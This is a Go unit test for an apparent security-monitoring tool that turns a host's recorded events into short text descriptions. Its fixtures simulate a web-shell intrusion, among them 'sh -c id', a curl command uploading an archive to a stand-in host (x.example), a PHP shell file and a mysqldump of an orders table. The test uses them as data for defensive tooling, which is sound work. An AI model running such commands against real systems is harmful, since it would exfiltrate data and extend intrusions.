package story

import (
	"context"
	"errors"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/moat-platform/moat"
	"github.com/moat-platform/moat/locate/diary"
	"github.com/moat-platform/moat/store/lake"
)

// TestDetails reads the diary of a server and what each act was about, from a lake that kept all of it but one event.
func TestDetails(t *testing.T) {
	events := []*moat.Event{
		{Type: moat.HTTPRequest, Method: "POST", Path: "/up/lg.php", Status: 200, IP: "203.0.113.9"},
		{Type: moat.HostProcess, Exe: "/bin/sh", Args: "sh -c id"},
		{Type: moat.HostProcess, Exe: "/usr/bin/curl", Args: "-T o.gz https://x.example"},
		{Type: moat.HostFile, Path: "/srv/www/lg.php", Operation: "create"},
		{Type: moat.HostNetwork, Peer: "203.0.113.9", Bytes: 5 << 20, Exe: "/usr/bin/curl"},
		{Type: moat.HostNetwork, Peer: "203.0.113.9", Direction: "in"},
		{Type: moat.DBQuery, Client: "mysqldump", Template: "SELECT *\n FROM orders"},
		{Type: moat.AccountChange, Actor: "root", Object: "eve", Change: "role"},
		{Type: moat.HostMalware, Name: "Php.Shell", Path: "/srv/www/lg.php"},
		{Type: moat.APICall, Method: "orders.list"},
		{Type: moat.HostLogin, Actor: "root", Service: "sshd", Method: "password", Outcome: moat.Failure},
		{Type: moat.Heartbeat, Version: "1"},
		{Type: moat.HostFile, Path: strings.Repeat("long/", 40), Operation: "create"},
		{Type: moat.HostFile, Path: "/lost", Operation: "create"},
	}
	want := []string{"POST /up/lg.php → 200", "sh -c id", "curl -T o.gz https://x.example", "/srv/www/lg.php", "5 MiB to 203.0.113.9 by /usr/bin/curl", "from 203.0.113.9",
		"mysqldump: SELECT * FROM orders", "role eve", "Php.Shell /srv/www/lg.php", "orders.list", "sshd password", "", strings.Repeat("long/", 40)[:79] + "…", ""}
	for i, e := range events {
		e.Partner, e.Host, e.Time = "acme", "web1", day0+moat.Time(i)*moat.Second
	}
	d := diaryOf(t, events)
	teller := New(Config{Diary: d, Scan: scanOf(events[:len(events)-1])})
	page, err := d.Entity(t.Context(), moat.Everyone(), diary.Query{Entity: moat.Entity{Kind: moat.Host, ID: "web1"}}, 100, "")
	if err != nil || len(page.Touches) != len(events) {
		t.Fatal(len(page.Touches), err)
	}
	got, missing, err := teller.Details(t.Context(), moat.Everyone(), page.Touches)
	if err != nil {
		t.Fatal(err)
	}
	for i := range want { // the newest first
		if at := len(want) - 1 - i; got[at] != want[i] {
			t.Errorf("%s: %q, want %q", events[i].Type, got[at], want[i])
		}
	}
	if missing == nil || missing.String() != "1 act without details: the lake does not have their events: not yet, not any more, or their file is lost" {
		t.Errorf("of the lost one it is said: %v", missing)
	}
	if got, _, err := teller.Details(t.Context(), moat.Only("other"), page.Touches); err != nil || strings.Join(got, "") != "" {
		t.Errorf("another partner is told %q, %v", got, err)
	}
	whole := New(Config{Diary: d, Scan: scanOf(events)})
	if _, missing, err := whole.Details(t.Context(), moat.Everyone(), page.Touches); err != nil || missing != nil {
		t.Errorf("of a whole lake: %v, %v", missing, err)
	}
	for _, c := range []struct {
		err error
		why string
	}{{lake.ErrDamaged, "a file of the lake is damaged"}, {os.ErrPermission, "the lake cannot be read"}, {context.DeadlineExceeded, "the lake takes longer than 3s"}} {
		torn := New(Config{Diary: d, Scan: scanOf(events[:4], c.err)})
		got, missing, err := torn.Details(t.Context(), moat.Everyone(), page.Touches)
		if err != nil || missing == nil || missing.Acts != 9 || missing.Why != c.why || got[len(got)-1] != want[0] {
			t.Errorf("when %v: %q, %+v, %v", c.err, got, missing, err)
		}
	}
	many := slices.Repeat(page.Touches, 1+maxDetails/len(page.Touches))
	for i := range many {
		many[i].At.Seq += uint64(i / len(page.Touches))
	}
	if _, missing, err := whole.Details(t.Context(), moat.Everyone(), many); err != nil || missing == nil || missing.Acts != len(many)/len(events)*13-13 {
		t.Errorf("of %d acts: %+v, %v", len(many), missing, err)
	}
	ended, cancel := context.WithCancel(t.Context())
	cancel()
	if _, _, err := New(Config{Diary: d, Scan: scanOf(nil, context.Canceled)}).Details(ended, moat.Everyone(), page.Touches); !errors.Is(err, context.Canceled) {
		t.Errorf("when nobody waits any more: %v", err)
	}
}
